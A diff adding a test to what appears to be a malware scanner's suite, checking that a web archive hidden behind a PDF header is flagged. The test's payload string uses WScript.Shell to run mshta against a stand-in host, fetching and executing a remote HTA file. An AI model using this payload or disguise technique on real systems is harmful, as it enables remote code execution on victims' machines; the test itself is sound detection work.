@@ -108,3 +108,14 @@ def test_a_part_without_a_name_is_called_by_its_address(engine: Engine) -> None:
     report = engine.scan(archive(*parts), name="a.mht")
 
     assert places(report)["yara.eicar"] == "a.mht/e e.txt"
+
+
+def test_a_web_archive_behind_the_head_of_a_pdf_is_read(engine: Engine) -> None:
+    def behind(code: str) -> bytes:
+        page = f"<html><body>Dear all<script>{code}</script></body></html>".encode()
+        return b"%PDF-1.7\n%\xe2\xe3\n" + archive(("text/html", "file:///C:/a.htm", page))
+
+    harm = "new ActiveXObject(`WScript.Shell`).Run(`mshta http://files.example.net/a.hta`)"
+
+    assert engine.scan(behind(harm), name="a.pdf").verdict is Verdict.MALICIOUS
+    assert engine.scan(behind("var a = 1"), name="a.pdf").verdict is not Verdict.MALICIOUS
